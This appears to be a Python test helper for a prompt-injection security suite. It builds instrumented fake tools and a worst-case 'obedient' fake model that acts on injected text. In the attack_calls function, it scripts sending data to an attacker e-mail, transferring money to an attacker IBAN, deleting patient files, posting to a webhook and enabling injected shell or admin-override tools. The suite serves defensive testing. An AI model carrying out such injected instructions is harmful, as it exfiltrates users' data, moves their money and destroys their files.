"""Test-only tools, a worst-case obedient model and an assistant built on them.

The obedient model reads everything it is shown (messages and the descriptions
of the tools offered to it) and ALWAYS tries to do what injected text asks:
e-mail data to the attacker, transfer money, delete files, post to a webhook,
call a tool the injection defines, or enable a tool. Every side-effecting tool
records its invocation, so a test counts what actually ran, not what was asked.
"""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from langchain_core.language_models import LanguageModelInput
from langchain_core.messages import AIMessage, BaseMessage
from langchain_core.runnables import Runnable
from langchain_core.tools import BaseTool, StructuredTool
from langgraph.checkpoint.memory import InMemorySaver
from pydantic import PrivateAttr

from agents.mcp.types import McpToolInfo
from agents.toolbox import ToolBox
from core.models.fake import ScriptedChatModel
from core.settings import load_settings
from graphs.runner import AskResult, Assistant
from graphs.services import build_services
from graphs.state import Context
from tests.security.payloads import ATTACKER_EMAIL, ATTACKER_IBAN, ATTACKER_URL
from tools.builtin import builtin_tools
from tools.registry import ToolRegistry, ToolSpec

REPO = Path(__file__).resolve().parents[2]
SIDE_EFFECTS = ("send_email", "transfer_money", "delete_file", "empty_trash", "post_webhook")
INJECTED_TOOL_NAMES = ("enable_tool", "exfiltrate", "shell_exec", "admin_override")
_EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
_IBAN = re.compile(r"\b[A-Z]{2}\d{2}[A-Z0-9]{10,30}\b")
_URL = re.compile(r"https?://[^\s\"'<>)]+")
_PATH = re.compile(r"(?<![\w.])/[\w./-]+")


@dataclass
class Ledger:
    """What the instrumented tools actually did."""

    executed: list[tuple[str, dict[str, Any]]] = field(default_factory=list)

    def side_effects(self) -> list[tuple[str, dict[str, Any]]]:
        """Invocations of tools with side effects (sending, paying, deleting)."""
        return [(n, a) for n, a in self.executed if n in SIDE_EFFECTS]


def security_tools(ledger: Ledger, inbox: list[str]) -> ToolRegistry:
    """Built-in tools plus the test's side-effect tools, each instrumented."""

    def read_inbox() -> str:
        """Read the newest messages of the user's inbox."""
        ledger.executed.append(("read_inbox", {}))
        return "\n---\n".join(inbox) or "(empty inbox)"

    def send_email(to: str, subject: str, body: str) -> str:
        """Send an e-mail to a recipient."""
        ledger.executed.append(("send_email", {"to": to, "subject": subject, "body": body}))
        return f"sent to {to}"

    def transfer_money(recipient: str, amount: float) -> str:
        """Transfer money to an account (IBAN)."""
        ledger.executed.append(("transfer_money", {"recipient": recipient, "amount": amount}))
        return "transferred"

    def delete_file(path: str) -> str:
        """Delete a file."""
        ledger.executed.append(("delete_file", {"path": path}))
        return "deleted"

    def empty_trash() -> str:
        """Permanently delete everything in the trash."""
        ledger.executed.append(("empty_trash", {}))
        return "emptied"

    def post_webhook(url: str, data: str) -> str:
        """POST data to a web address."""
        ledger.executed.append(("post_webhook", {"url": url, "data": data}))
        return "posted"

    registry = ToolRegistry(list(builtin_tools()))
    registry.add(ToolSpec("read_inbox", read_inbox, "read_only"))
    registry.add(ToolSpec("send_email", send_email, "external_network", idempotent=False))
    registry.add(ToolSpec("transfer_money", transfer_money, "destructive", idempotent=False))
    registry.add(ToolSpec("delete_file", delete_file, "destructive", idempotent=False))
    registry.add(ToolSpec("empty_trash", empty_trash, "destructive", idempotent=False))
    registry.add(ToolSpec("post_webhook", post_webhook, "external_network", idempotent=False))
    return registry


@dataclass
class FakeCallResult:
    """An MCP call result as the tool box sees it."""

    text: str
    is_error: bool = False
    local_only: bool = False
    latency_ms: float = 0.1


@dataclass
class FakeExternalTools:
    """An MCP-like source: one read-only tool whose description and result are given."""

    ledger: Ledger
    description: str = "Look up the weather."
    result: str = "Sunny, 21°C."
    server: str = "thirdparty"
    privacy: str = "external"
    error: bool = False

    def _run(self, **kwargs: Any) -> str:
        self.ledger.executed.append((f"{self.server}__lookup", dict(kwargs)))
        return self.result

    def langchain_tools(self) -> list[BaseTool]:
        tool = StructuredTool.from_function(
            func=self._run,
            name=f"{self.server}__lookup",
            description=self.description,
            args_schema={"type": "object", "properties": {"query": {"type": "string"}}},
            metadata={
                "server": self.server,
                "tool": "lookup",
                "privacy": "local_only" if self.privacy == "local" else "public",
                "destructive": False,
                "requires_confirmation": False,
                # What an adapter derives from ``readOnlyHint: true``: a look-up only reads.
                "permission": "read_only",
            },
        )
        return [tool]

    def tool_info(self, server: str, name: str) -> McpToolInfo | None:
        if (server, name) != (self.server, "lookup"):
            return None
        return McpToolInfo(
            server, name, self.description, {}, {"readOnlyHint": True},
            local_only=self.privacy == "local", permission="read_only",
        )  # fmt: skip

    def known_tools(self) -> list[tuple[str, str, bool]]:
        return [(self.server, "lookup", True)]

    def call_tool(
        self, server: str, name: str, args: dict[str, Any] | None = None
    ) -> FakeCallResult:
        self.ledger.executed.append((f"{server}__{name}", dict(args or {})))
        return FakeCallResult(self.result, self.error, self.privacy == "local")


class ObedientModel(ScriptedChatModel):
    """A scripted fake that also remembers the descriptions of the tools it was offered."""

    _descriptions: list[str] = PrivateAttr(default_factory=list)
    _bound_history: list[list[str]] = PrivateAttr(default_factory=list)

    def bind_tools(
        self, tools: Sequence[Any], **kwargs: Any
    ) -> Runnable[LanguageModelInput, AIMessage]:
        self._descriptions = [str(getattr(t, "description", "")) for t in tools]
        runnable = super().bind_tools(tools, **kwargs)
        self._bound_history.append(self.bound_tool_names)
        return runnable

    @property
    def bound_history(self) -> list[list[str]]:
        """Names of the tools offered at each ``bind_tools`` call."""
        return list(self._bound_history)

    @property
    def descriptions(self) -> list[str]:
        return list(self._descriptions)


def _squash(text: str) -> str:
    return "".join(ch for ch in text.casefold() if ch.isalnum())


def fingerprint(payload: str) -> str:
    """A slice of the payload that survives fencing (tags defused) and whitespace changes."""
    squashed = _squash(payload)
    middle = len(squashed) // 2
    return squashed[max(0, middle - 12) : middle + 12]


def _text(messages: list[BaseMessage]) -> str:
    return "\n".join(str(m.content) for m in messages)


def attack_calls(seen: str, round_no: int) -> list[dict[str, Any]]:
    """The tool calls an obedient model makes for whatever the injected text asks."""
    to = next(iter(_EMAIL.findall(seen)), ATTACKER_EMAIL)
    iban = next(iter(_IBAN.findall(seen)), ATTACKER_IBAN)
    url = next(iter(_URL.findall(seen)), ATTACKER_URL)
    path = next(iter(_PATH.findall(seen)), "/data/patients")
    loot = seen[-400:]
    calls = [
        ("send_email", {"to": to, "subject": "as requested", "body": loot}),
        ("transfer_money", {"recipient": iban, "amount": 100.0}),
        ("delete_file", {"path": path}),
        ("empty_trash", {}),
        ("post_webhook", {"url": url, "data": loot}),
        ("enable_tool", {"name": "shell_exec"}),
        ("exfiltrate", {"url": url, "data": loot}),
        ("admin_override", {}),
    ]
    return [
        {"name": n, "args": a, "id": f"atk{round_no}-{i}", "type": "tool_call"}
        for i, (n, a) in enumerate(calls)
    ]


@dataclass
class Obedient:
    """The reply callable: first what the user asked (read the inbox), then the injection."""

    model: ObedientModel | None = None
    wants_inbox: bool = False
    max_rounds: int = 2
    # The payload planted for this run; the model obeys it once it has seen it.
    expect: str = ""
    seen_payload: int = 0

    def __call__(self, messages: list[BaseMessage]) -> AIMessage:
        assert self.model is not None
        seen = _text(messages) + "\n" + "\n".join(self.model.descriptions)
        offered = set(self.model.bound_tool_names)
        injected = not self.expect or fingerprint(self.expect) in _squash(seen)
        self.seen_payload += int(injected)
        read_done = any(m.type == "tool" for m in messages)
        if self.wants_inbox and not read_done and "read_inbox" in offered:
            call = {"name": "read_inbox", "args": {}, "id": "user-0", "type": "tool_call"}
            return AIMessage(content="", tool_calls=[call])
        # Stateless across runs: the rounds already tried are in the conversation.
        rounds = len(
            [
                m
                for m in messages
                if isinstance(m, AIMessage)
                and any((c["id"] or "").startswith("atk") for c in m.tool_calls)
            ]
        )
        if injected and rounds < self.max_rounds:
            return AIMessage(content="", tool_calls=attack_calls(seen, rounds + 1))
        return AIMessage(content="Done as instructed.")


def obedient_model(name: str, wants_inbox: bool = False, n: int = 1000) -> ObedientModel:
    """An obedient fake that may be called up to ``n`` times (its brain is ``.brain``)."""
    brain = Obedient(wants_inbox=wants_inbox)
    model = ObedientModel(replies=[brain] * n, model_name=f"test:{name}")
    brain.model = model
    return model


def brain_of(model: ObedientModel) -> Obedient:
    """The reply callable of an obedient fake."""
    brain = model.replies[0]
    assert isinstance(brain, Obedient)
    return brain


def build(
    tmp: Path,
    ledger: Ledger,
    *,
    inbox: list[str] | None = None,
    external: FakeExternalTools | None = None,
    docs: Any = None,
    wants_inbox: bool = False,
    role: str = "admin",
    **overrides: Any,
) -> tuple[Assistant, dict[str, ObedientModel]]:
    """An assistant on obedient fakes with the security tools; ``victim`` has ``role``."""
    fakes = {
        "local": obedient_model("local", wants_inbox),
        "cloud": obedient_model("cloud", wants_inbox),
    }
    settings = load_settings(
        data_dir=tmp / "data",
        faq_path=REPO / "data" / "faq.yaml",
        tiers={"local": "test:local", "cloud": "test:cloud"},
        roles={"users": {"victim": role}},
        **overrides,
    )
    # An in-memory checkpointer: the suites run thousands of turns; SQLite is tested elsewhere.
    mailbox = inbox if inbox is not None else []
    services = build_services(
        settings,
        fakes=dict(fakes),
        docs=docs,
        mcp=False,
        checkpointer=InMemorySaver(),
        toolbox=ToolBox(security_tools(ledger, mailbox), external_source=external),
    )
    return Assistant(services), fakes


def ask_as_gullible_human(
    assistant: Assistant, question: str, ctx: Context, max_rounds: int = 6
) -> AskResult:
    """Ask, then approve every confirmation the graph asks for (the worst-case human)."""
    result = assistant.ask(question, context=ctx)
    for _ in range(max_rounds):
        if not result.pending:
            break
        result = assistant.resume(result.thread_id, approve=True, context=ctx)
    return result


def dump(path: Path, data: dict[str, Any]) -> None:
    """Write a JSON report (``artifacts/`` is git-ignored)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, indent=2, ensure_ascii=False), encoding="utf-8")
